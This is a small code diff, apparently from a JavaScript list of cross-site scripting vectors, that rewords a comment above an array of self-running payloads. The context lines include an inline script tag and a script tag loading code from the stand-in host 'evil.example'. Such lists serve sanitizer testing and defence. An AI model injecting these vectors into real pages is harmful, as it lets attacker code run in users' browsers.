@@ -138,7 +138,7 @@ const styles = [
   `animation-name:x;position:fixed;inset:0`,
 ];
 
-/** What runs by itself, without attributes of the tables above. */
+/** Vectors that run by themselves, without attributes of the tables above. */
 const wholes = [
   `<script>${payload}</script>`,
   `<script src=//evil.example/x.js></script>`,
